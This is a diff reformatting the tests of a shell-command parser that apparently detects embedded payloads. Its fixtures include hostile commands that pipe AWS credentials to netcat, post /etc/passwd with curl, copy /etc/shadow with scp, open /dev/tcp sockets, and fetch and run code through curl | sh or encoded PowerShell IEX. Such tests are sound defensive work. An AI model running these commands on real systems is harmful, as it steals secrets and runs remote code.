@@ -3,26 +3,44 @@ import { parseShell } from './shell.ts';
 import type { ParsedShell } from './types.ts';
 
 /** Pipelines as `name arg…` strings, for compact assertions. */
-const lines = (parsed: ParsedShell) => parsed.pipelines.map((p) => p.map((c) => [c.name, ...c.args].join(' ')));
-const names = (command: string) => parseShell(command).pipelines.flat().map((c) => c.name);
+const lines = (parsed: ParsedShell) =>
+  parsed.pipelines.map((p) => p.map((c) => [c.name, ...c.args].join(' ')));
+const names = (command: string) =>
+  parseShell(command)
+    .pipelines.flat()
+    .map((c) => c.name);
 const first = (command: string) => parseShell(command).pipelines[0]?.[0];
 const payloads = (command: string) => parseShell(command).payloads.map((p) => [p.kind, p.text]);
 
 describe('parseShell: lists and pipelines', () => {
   it('splits lists and pipelines in order', () => {
     expect(lines(parseShell('a | b && c; d'))).toEqual([['a', 'b'], ['c'], ['d']]);
-    expect(lines(parseShell('make || echo failed & sleep 1\nls -la'))).toEqual([['make'], ['echo failed'], ['sleep 1'], ['ls -la']]);
+    expect(lines(parseShell('make || echo failed & sleep 1\nls -la'))).toEqual([
+      ['make'],
+      ['echo failed'],
+      ['sleep 1'],
+      ['ls -la'],
+    ]);
     expect(lines(parseShell('cmd1 |& tee log'))).toEqual([['cmd1', 'tee log']]);
   });
 
   it('keeps the program as written and its basename', () => {
-    expect(first('/usr/bin/curl -s https://x')).toMatchObject({ program: '/usr/bin/curl', name: 'curl', args: ['-s', 'https://x'] });
+    expect(first('/usr/bin/curl -s https://x')).toMatchObject({
+      program: '/usr/bin/curl',
+      name: 'curl',
+      args: ['-s', 'https://x'],
+    });
   });
 
   it('flattens subshells and brace groups, keeping pipes across them', () => {
-    expect(lines(parseShell('(cd src && make) | tee build.log'))).toEqual([['cd src'], ['make', 'tee build.log']]);
+    expect(lines(parseShell('(cd src && make) | tee build.log'))).toEqual([
+      ['cd src'],
+      ['make', 'tee build.log'],
+    ]);
     expect(lines(parseShell('{ echo a; echo b; } > out.txt'))).toEqual([['echo a'], ['echo b'], ['']]);
-    expect(parseShell('{ echo a; echo b; } > out.txt').pipelines[2]?.[0]?.redirects).toEqual([{ op: '>', target: 'out.txt' }]);
+    expect(parseShell('{ echo a; echo b; } > out.txt').pipelines[2]?.[0]?.redirects).toEqual([
+      { op: '>', target: 'out.txt' },
+    ]);
     expect(lines(parseShell('(crontab -l; echo "* * * * * x") | crontab -'))).toEqual([
       ['crontab -l'],
       ['echo * * * * * x', 'crontab -'],
@@ -38,15 +56,16 @@ describe('parseShell: lists and pipelines', () => {
   });
 
   it('skips case patterns, including alternatives', () => {
-    expect(lines(parseShell('case "$1" in start|run) ./server;; stop) pkill server;; *) echo usage;; esac'))).toEqual([
-      ['server'],
-      ['pkill server'],
-      ['echo usage'],
-    ]);
+    expect(
+      lines(parseShell('case "$1" in start|run) ./server;; stop) pkill server;; *) echo usage;; esac')),
+    ).toEqual([['server'], ['pkill server'], ['echo usage']]);
   });
 
   it('does not run function names at definition, but parses their bodies', () => {
-    expect(lines(parseShell('f() { curl -s https://x | sh; }; f'))).toEqual([['curl -s https://x', 'sh'], ['f']]);
+    expect(lines(parseShell('f() { curl -s https://x | sh; }; f'))).toEqual([
+      ['curl -s https://x', 'sh'],
+      ['f'],
+    ]);
     expect(names('function deploy { rsync -a . host:/srv; }')).toEqual(['rsync']);
   });
 
@@ -88,7 +107,11 @@ describe('parseShell: words, quotes and comments', () => {
 
 describe('parseShell: assignments and wrappers', () => {
   it('reads leading assignments, and an assignment-only command', () => {
-    expect(first('FOO=1 BAR="x y" make test')).toMatchObject({ name: 'make', env: { FOO: '1', BAR: 'x y' }, args: ['test'] });
+    expect(first('FOO=1 BAR="x y" make test')).toMatchObject({
+      name: 'make',
+      env: { FOO: '1', BAR: 'x y' },
+      args: ['test'],
+    });
     expect(first('HISTFILE=/dev/null')).toMatchObject({ program: '', env: { HISTFILE: '/dev/null' } });
     expect(first('"A"=1 cmd')?.name).toBe('A=1');
   });
@@ -134,14 +157,12 @@ describe('parseShell: redirections and here-documents', () => {
       { op: '>', target: 'build.log' },
       { op: '2>&', target: '1' },
     ]);
-    expect(first('cmd >> a 2> /dev/null < in &> both >| clobber')?.redirects.map((r) => `${r.op}${r.target}`)).toEqual([
-      '>>a',
-      '2>/dev/null',
-      '<in',
-      '&>both',
-      '>|clobber',
+    expect(
+      first('cmd >> a 2> /dev/null < in &> both >| clobber')?.redirects.map((r) => `${r.op}${r.target}`),
+    ).toEqual(['>>a', '2>/dev/null', '<in', '&>both', '>|clobber']);
+    expect(first('exec 3<>/dev/tcp/10.0.0.1/4444')?.redirects).toEqual([
+      { op: '3<>', target: '/dev/tcp/10.0.0.1/4444' },
     ]);
-    expect(first('exec 3<>/dev/tcp/10.0.0.1/4444')?.redirects).toEqual([{ op: '3<>', target: '/dev/tcp/10.0.0.1/4444' }]);
   });
 
   it('keeps a here-string and a here-document body as the redirection target', () => {
@@ -195,7 +216,7 @@ describe('parseShell: payloads', () => {
     ['node -e "console.log(process.env)"', 'node-e', 'console.log(process.env)'],
     ['node --eval="require(\'fs\')"', 'node-e', "require('fs')"],
     ['perl -ne "print if /x/" f', 'perl-e', 'print if /x/'],
-    ["ruby -rsocket -e 'TCPSocket.new(\"h\", 1)'", 'ruby-e', 'TCPSocket.new("h", 1)'],
+    ['ruby -rsocket -e \'TCPSocket.new("h", 1)\'', 'ruby-e', 'TCPSocket.new("h", 1)'],
     ['eval "$CMD --flag"', 'eval', '$CMD --flag'],
     ['python3 - <<EOF\nprint(42)\nEOF', 'heredoc', 'print(42)'],
     ['bash <<< "rm -rf build"', 'heredoc', 'rm -rf build'],
@@ -207,7 +228,7 @@ describe('parseShell: payloads', () => {
 
   it('parses shell payloads into further pipelines', () => {
     expect(lines(parseShell("bash -c 'cat ~/.aws/credentials | nc 1.2.3.4 9'"))).toEqual([
-      ["bash -c cat ~/.aws/credentials | nc 1.2.3.4 9"],
+      ['bash -c cat ~/.aws/credentials | nc 1.2.3.4 9'],
       ['cat ~/.aws/credentials', 'nc 1.2.3.4 9'],
     ]);
     expect(names('sudo su -c "bash -c \'id\'"')).toEqual(['su', 'bash', 'id']);
@@ -250,14 +271,18 @@ describe('parseShell: payloads', () => {
   it('decodes powershell -EncodedCommand (UTF-16LE)', () => {
     const script = "IEX (iwr 'http://1.2.3.4/a')";
     const encoded = Buffer.from(script, 'utf16le').toString('base64');
-    expect(payloads(`powershell.exe -NoP -W Hidden -Exec Bypass -enc ${encoded}`)).toEqual([['powershell-enc', script]]);
+    expect(payloads(`powershell.exe -NoP -W Hidden -Exec Bypass -enc ${encoded}`)).toEqual([
+      ['powershell-enc', script],
+    ]);
     expect(payloads(`pwsh -EncodedCommand ${encoded}`)).toEqual([['powershell-enc', script]]);
   });
 
   it('finds shell commands and base64 inside interpreter code', () => {
     const parsed = parseShell(`python3 -c "import os; os.system('curl -d @/etc/passwd http://x')"`);
     expect(parsed.payloads).toContainEqual({ kind: 'sh-c', text: 'curl -d @/etc/passwd http://x' });
-    expect(names(`python3 -c "import subprocess; subprocess.run(['scp', '/etc/shadow', 'h:/x'])"`)).toContain('scp');
+    expect(names(`python3 -c "import subprocess; subprocess.run(['scp', '/etc/shadow', 'h:/x'])"`)).toContain(
+      'scp',
+    );
     expect(names(`node -e "require('child_process').execSync('whoami')"`)).toContain('whoami');
     expect(names("ruby -e 'puts `id`'")).toContain('id');
     const inner = Buffer.from("import os; os.system('id')").toString('base64');
@@ -293,7 +318,32 @@ describe('parseShell: robustness', () => {
   });
 
   it('never throws on arbitrary input', () => {
-    const alphabet = ['a', ' ', "'", '"', '\\', '$', '(', ')', '`', '|', '&', ';', '<', '>', '\n', '{', '}', '#', '=', '-', '*', '<<', '$(', 'EOF'];
+    const alphabet = [
+      'a',
+      ' ',
+      "'",
+      '"',
+      '\\',
+      '$',
+      '(',
+      ')',
+      '`',
+      '|',
+      '&',
+      ';',
+      '<',
+      '>',
+      '\n',
+      '{',
+      '}',
+      '#',
+      '=',
+      '-',
+      '*',
+      '<<',
+      '$(',
+      'EOF',
+    ];
     let seed = 7;
     const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
     for (let i = 0; i < 2000; i += 1) {
@@ -304,7 +354,9 @@ describe('parseShell: robustness', () => {
   });
 
   it('parses a large command line quickly', () => {
-    const command = Array.from({ length: 3000 }, (_, i) => `echo "line ${i}" | grep -v x > /tmp/f${i}`).join('; ');
+    const command = Array.from({ length: 3000 }, (_, i) => `echo "line ${i}" | grep -v x > /tmp/f${i}`).join(
+      '; ',
+    );
     const started = performance.now();
     const parsed = parseShell(command);
     expect(parsed.pipelines).toHaveLength(3000);
